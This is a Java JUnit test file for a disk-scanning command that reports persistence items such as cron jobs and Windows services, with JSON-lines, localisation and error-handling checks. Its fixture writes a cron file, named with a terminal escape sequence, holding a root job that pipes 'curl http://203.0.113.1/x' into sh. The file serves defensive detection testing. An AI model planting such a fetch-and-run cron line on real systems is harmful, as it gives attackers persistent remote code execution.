package bzh.vigie.agent;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.agent.identity.ThisMachine;
import bzh.vigie.agent.windows.regf.HiveWriter;
import bzh.vigie.agent.windows.regf.RegKey;
import bzh.vigie.agent.windows.regf.RegText;
import bzh.vigie.event.Item.Trait;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ScanCommandTest {
    @TempDir
    Path folder;

    Path root;
    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private final ByteArrayOutputStream err = new ByteArrayOutputStream();

    @BeforeEach
    void aDisk() throws IOException {
        root = Files.createDirectories(folder.resolve("disk"));
        Files.createDirectories(root.resolve("etc/cron.d"));
        Files.writeString(root.resolve("etc/passwd"), "root:x:0:0::/root:/bin/sh\n");
        Files.writeString(root.resolve("etc/cron.d/evil\u001b[2J"), "* * * * * root curl http://203.0.113.1/x | sh\n");
    }

    @Test
    void jsonLinesHaveItemsThenALocationEachThenASummary() {
        assertEquals(0, scan("--root", root.toString(), "--format", "jsonl"));
        List<String> lines = out.toString(StandardCharsets.UTF_8).lines().toList();
        assertTrue(lines.getLast().startsWith("{\"kind\":\"summary\""), lines.getLast());
        assertTrue(lines.stream().allMatch(l -> l.startsWith("{\"kind\":\"") && l.endsWith("}")));
        assertTrue(lines.stream()
                .anyMatch(l -> l.startsWith("{\"kind\":\"item\",\"location\":\"linux.cron.d\"")
                        && l.contains("/etc/cron.d/evil\\\\x1b[2J")));
        assertTrue(
                lines.contains(
                        "{\"kind\":\"location\",\"location\":\"linux.cron.d\",\"status\":\"read\",\"reason\":\"none\",\"items\":1}"));
        assertEquals("", err.toString(StandardCharsets.UTF_8));
    }

    @Test
    void theLastLineSaysWhoseDiskItIsAndOfWhen() throws IOException {
        assertEquals(0, scan("--root", root.toString(), "--format", "jsonl"));
        String none = out.toString(StandardCharsets.UTF_8).lines().toList().getLast();
        assertTrue(
                none.contains("\"hostname\":\"\",\"installation_id\":\"\",\"newest_time\":\"\",\"newest_file\":\"\""),
                none);
        Files.writeString(root.resolve("etc/hostname"), "pc-1\n");
        Files.writeString(root.resolve("etc/machine-id"), "0123456789abcdef0123456789abcdef\n");
        Path journal = Files.createDirectories(root.resolve("var/log/journal/0123"));
        write(root.resolve("var/log/wtmp"), "2026-03-01T08:00:00Z");
        write(journal.resolve("system.journal"), "2026-03-02T09:00:00Z");
        out.reset();
        assertEquals(0, scan("--root", root.toString(), "--format", "jsonl"));
        String told = out.toString(StandardCharsets.UTF_8).lines().toList().getLast();
        assertTrue(told.contains("\"hostname\":\"pc-1\""), told);
        // As the agent of that host tells it.
        String id = new ThisMachine(root).facts(List.of()).getInstallationId();
        assertEquals(64, id.length());
        assertTrue(told.contains("\"installation_id\":\"" + id + "\""), told);
        assertTrue(
                told.contains(
                        "\"newest_time\":\"2026-03-02T09:00:00Z\",\"newest_file\":\"/var/log/journal/0123/system.journal\""),
                told);
    }

    @Test
    void aWindowsOfWhichNeitherGreatHiveCanBeReadFails() throws IOException {
        Path windows = folder.resolve("windows");
        Path config = Files.createDirectories(windows.resolve("Windows/System32/config"));
        Files.writeString(config.resolve("SYSTEM"), "no hive");
        assertEquals(1, scan("--root", windows.toString()));
        String why = err.toString(StandardCharsets.UTF_8);
        assertTrue(why.contains("Neither the hive SYSTEM nor the hive SOFTWARE could be read"), why);
        assertTrue(
                out.toString(StandardCharsets.UTF_8).contains("windows.service"), "what it says is told all the same");
    }

    /** A collection of hives has no programs: that they are missing is one line, not one for each. */
    @Test
    void whereMostProgramsAreMissingThatIsOneLine() throws IOException {
        RegKey system = new RegKey("");
        for (int i = 0; i < 30; i++) {
            system.make("ControlSet001\\Services\\svc" + i)
                    .value("Type", 4, new byte[] {16, 0, 0, 0})
                    .value("Start", 4, new byte[] {2, 0, 0, 0})
                    .value("ImagePath", 1, RegText.text("C:\\Tools\\svc" + i + ".exe"));
        }
        Path windows = folder.resolve("windows");
        Path config = Files.createDirectories(windows.resolve("Windows/System32/config"));
        Files.write(config.resolve("SYSTEM"), HiveWriter.write(system));
        assertEquals(0, scan("--root", windows.toString()));
        String text = out.toString(StandardCharsets.UTF_8);
        assertTrue(text.contains("30 items run a program that is not on this disk."), text);
        assertFalse(text.contains("svc29.exe"), text);
    }

    private static void write(Path file, String time) throws IOException {
        Files.writeString(file, "x");
        Files.setLastModifiedTime(file, FileTime.from(Instant.parse(time)));
    }

    @Test
    void peopleReadWordsInTheirLanguageWithoutControlCharacters() {
        assertEquals(0, scan("--root", root.toString(), "--lang", "fr"));
        String text = out.toString(StandardCharsets.UTF_8);
        assertTrue(text.contains("éléments qui font redémarrer du code"), text);
        assertTrue(text.contains(Words.in(Locale.FRENCH).of(Trait.NETWORK_TOOL)), text);
        assertFalse(text.contains("\u001b"));
        assertFalse(text.toLowerCase(Locale.ROOT).contains("propre"), text);
    }

    @Test
    void theFileHoldsTheLinesAndTheScreenTheWords() throws IOException {
        Path file = folder.resolve("scan.jsonl");
        assertEquals(0, scan("--root", root.toString(), "--out", file.toString(), "--lang", "en"));
        assertTrue(Files.readAllLines(file).getLast().contains("\"kind\":\"summary\""));
        assertTrue(out.toString(StandardCharsets.UTF_8).contains(file.toString()));
    }

    @Test
    void whatIsNoLinuxSystemIsRefusedWithTheRemedy() throws IOException {
        assertEquals(2, scan("--root", folder.resolve("none").toString(), "--lang", "en"));
        assertTrue(err.toString(StandardCharsets.UTF_8).contains("--root"));
        assertEquals(
                1,
                scan("--root", Files.createDirectories(folder.resolve("empty")).toString()));
        assertEquals(
                1,
                scan(
                        "--root",
                        root.toString(),
                        "--out",
                        folder.resolve("no/such/file").toString()));
        assertFalse(err.toString(StandardCharsets.UTF_8).contains("\tat "));
    }

    @Test
    void everyTraitHasWords() {
        for (Trait trait : Trait.values()) {
            assertFalse(Words.in(Locale.FRENCH)
                    .of(trait)
                    .equals(Words.in(Locale.ENGLISH).of(trait)));
        }
    }

    private int scan(String... options) {
        String[] args = new String[options.length + 1];
        args[0] = "scan";
        System.arraycopy(options, 0, args, 1, options.length);
        return Commands.execute(
                args,
                new PrintStream(out, true, StandardCharsets.UTF_8),
                new PrintStream(err, true, StandardCharsets.UTF_8));
    }
}
